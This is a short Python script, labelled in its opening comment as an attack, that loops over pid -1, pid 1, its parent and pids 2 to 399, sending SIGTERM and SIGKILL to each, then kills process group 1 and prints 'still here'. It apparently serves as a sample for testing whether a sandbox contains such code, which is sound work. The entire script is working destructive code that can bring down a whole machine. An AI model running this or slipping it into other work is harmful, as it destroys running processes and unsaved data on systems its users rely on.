# attack: sends deadly signals to every pid that there could be
import os
import signal

for pid in [-1, 1, os.getppid(), *range(2, 400)]:
    if pid == os.getpid():
        continue
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
            print("signalled", pid if pid in (-1, 1) else "another")
        except OSError:
            pass
try:
    os.killpg(1, signal.SIGKILL)
except OSError:
    pass
print("still here")
